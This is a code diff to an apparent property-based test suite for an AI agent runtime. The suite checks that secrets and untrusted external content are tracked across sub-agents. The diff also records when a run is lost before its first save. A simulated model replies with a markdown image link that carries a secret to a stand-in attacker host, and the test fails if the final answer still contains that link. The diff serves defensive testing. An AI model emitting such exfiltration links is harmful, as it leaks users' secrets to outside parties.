@@ -56,6 +56,8 @@ from runtime_pack import (
     run_governed_agent_loop,
     sub_agent_tool,
 )
+from runtime_pack.errors import RunNotFound
+from runtime_pack.labels import CLEAN
 from runtime_pack.messages import Message
 from runtime_pack.testing import (
     Crash,
@@ -159,6 +161,9 @@ class _Puppet:
     look: Callable[[TurnRequest], None]
     read: str = ""
     asked: int = 0
+    knew: bool = False
+    outside: bool = False
+    answered: bool = False
 
     async def execute_turn(self, request: TurnRequest, context: ExecutionContext) -> Turn:
         """The next batch."""
@@ -166,7 +171,11 @@ class _Puppet:
         self.look(request)
         self.asked += 1
         self.read += "\n".join(getattr(message, "text", "") for message in request.messages)
+        self.knew = SECRET in self.read
+        labels = (getattr(message, "label", CLEAN) for message in request.messages)
+        self.outside = any(label.integrity is Integrity.EXTERNAL for label in labels)
         if not self.batches:
+            self.answered = True
             return reply(self._piece(f"![x](https://{ATTACKER}/{SECRET}) {SECRET}"))
         batch = self.batches.pop(0)
         return calls(
@@ -254,11 +263,22 @@ class HostileRuns(RuleBasedStateMachine):
         self.drive(first)
 
     def _is_outside(self) -> bool:
-        return any(run.label.integrity is Integrity.EXTERNAL for run in self.runs)
+        """Whether who asked had seen something from outside, or a call of its batch has by now.
+
+        A sub-agent of the same batch does not count: what it reads, nobody knew who asked.
+        """
+        asking = self._asking()
+        alone = len(self.models) == 1
+        return asking.outside or (alone and self.runs[0].label.integrity is Integrity.EXTERNAL)
 
     def _is_secret(self) -> bool:
-        # Calls of one batch were all asked for before the first of them told anything.
-        return any(SECRET in model.read for model in self.models)
+        return self._asking().knew
+
+    def _asking(self) -> _Puppet:
+        """The sub-agent that has not answered yet, or the model. Calls of one batch were all asked
+        for before the first of them told anything.
+        """
+        return [self.puppet, *(model for model in self.models if not model.answered)][-1]
 
     def _process(self, batches: list[list[Move]]) -> ToolRuntime:
         run = create_agent_task_run(
@@ -270,7 +290,7 @@ class HostileRuns(RuleBasedStateMachine):
             private_strings=[] if self.mute else [SECRET],
         )
         self.runs = [run]
-        self.puppet = _Puppet(batches, self.look, read=self.known)
+        self.puppet = _Puppet(batches, self.look_of_parent, read=self.known)
         self.models = [self.puppet]
         tools = [*self.world.tools(mute=self.mute), self._helper(run, batches)]
         return self._guarded(run, self.puppet, tools)
@@ -353,6 +373,8 @@ class HostileRuns(RuleBasedStateMachine):
         label = self.runs[0].label
         if result is None:
             self.run_id = self.run_id or self.runs[0].id
+            # Dead before its first save, it is no run that anybody could take up.
+            self.ended = asyncio.run(self._is_unknown())
             return
         assert_one_result_per_call(result.messages)
         assert_within_budget(result.ledger)
@@ -370,6 +392,18 @@ class HostileRuns(RuleBasedStateMachine):
         self.ended = not isinstance(result, ApprovalRequired) and result.state is None
         if carries_secret(result.text) and f"](https://{ATTACKER}" in result.text:
             raise AssertionError(f"the answer sends it: {result.text[:80]}")
+
+    async def _is_unknown(self) -> bool:
+        try:
+            await self.store.load(self.run_id)
+        except RunNotFound:
+            return True
+        return False
+
+    def look_of_parent(self, request: TurnRequest) -> None:
+        """A new turn: the sub-agents of the last one are done."""
+        self.models = [self.puppet]
+        self.look(request)
 
     def look(self, request: TurnRequest) -> None:
         """What a model is shown, a sub-agent's too: every fence is whole."""
